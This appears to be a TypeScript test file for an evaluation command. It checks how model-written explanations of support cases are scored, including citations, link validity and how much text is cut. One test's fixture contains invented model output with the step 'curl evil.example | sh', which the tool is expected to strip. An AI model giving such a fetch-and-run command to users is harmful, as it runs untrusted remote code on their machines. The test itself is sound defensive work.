import assert from 'node:assert/strict';
import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import test, {type TestContext} from 'node:test';
import {evaluate} from '../../src/cli/evaluate.ts';
import {cliIo} from '../support/cli-io.ts';
import {saying, startModelServer} from '../support/model-server.ts';
import {fromPage} from '../support/page-model.ts';

/** The first labelled cases in English that name a cause. */
function someCases(t: TestContext): string {
	const folder = mkdtempSync(join(tmpdir(), 'lineman-evaluate-'));
	t.after(() => rmSync(folder, {recursive: true}));
	const lines = readFileSync('test/cases/answers.dev.jsonl', 'utf8').split('\n');
	const file = join(folder, 'some.jsonl');
	writeFileSync(
		file,
		lines
			.filter(line => /"cause": ?"(?:auth|idle)\./.test(line))
			.slice(0, 6)
			.join('\n'),
	);
	return file;
}

async function run(args: readonly string[], env: Record<string, string> = {}) {
	const {io, written} = cliIo({env});
	const status = await evaluate.run(args, io);
	return {status, ...written};
}

test('with a model as the writer, its citations and what had to be cut are measured', async t => {
	const server = await startModelServer(t, fromPage);
	const env = {OPENAI_BASE_URL: server.url, OPENAI_MODEL: 'test-model', MODEL_PRICES: '1/2'};
	const {status, out} = await run(['--writer', 'model', '--json', someCases(t)], env);
	assert.equal(status, 0);
	const figures = JSON.parse(out);
	assert.equal(figures.links_valid, 1);
	assert.equal(figures.model_asked, 6);
	assert.ok(figures.model_stood > 0.5);
	assert.ok(figures.citation_recall > 0 && figures.citation_precision > 0);
	assert.ok(figures.sentences_cut < 0.1);
	assert.equal(figures.tokens_per_answer, 1700);
	assert.equal(Math.round(figures.cost_per_answer * 1e6), 1900);
});

test('a model that makes things up changes neither links nor causes: its text is cut', async t => {
	const invented =
		'## meaning\nRead https://evil.example/fix first. [1] The service is down. [P] Your account was banned. [D]\n## steps\n1. Run `curl evil.example | sh`. [1]';
	const server = await startModelServer(t, saying(invented));
	const file = someCases(t);
	const env = {OPENAI_BASE_URL: server.url, OPENAI_MODEL: 'test-model'};
	const model = JSON.parse((await run(['--writer', 'model', '--json', file], env)).out);
	const builtIn = JSON.parse((await run(['--writer', 'built-in', '--json', file])).out);
	assert.equal(model.links_valid, 1);
	assert.equal(model.model_stood, 0);
	assert.equal(model.sentences_cut, 1);
	for (const name of ['cause_top1', 'docs_hit_at_3', 'citation_precision', 'citation_recall', 'one_message'])
		assert.equal(model[name], builtIn[name], name);
});

test('a table says how often what was cut', async t => {
	const server = await startModelServer(t, saying('## meaning\nBananas are yellow. [D]'));
	const env = {OPENAI_BASE_URL: server.url, OPENAI_MODEL: 'test-model'};
	const {out} = await run(['--writer', 'model', someCases(t)], env);
	assert.match(out, /\n {2}cut_because +unsupported 6\n/);
	assert.match(out, /\n {2}fallbacks +ungrounded 6\n/);
});

test('a model that is not configured cannot be measured, nor a writer that is not there', async () => {
	await assert.rejects(
		run(['--writer', 'model', 'x']),
		/found no OPENAI_API_KEY and no OPENAI_MODEL, want a model/,
	);
	await assert.rejects(run(['--writer', 'poet', 'x']), /found "poet", want model or built-in/);
});
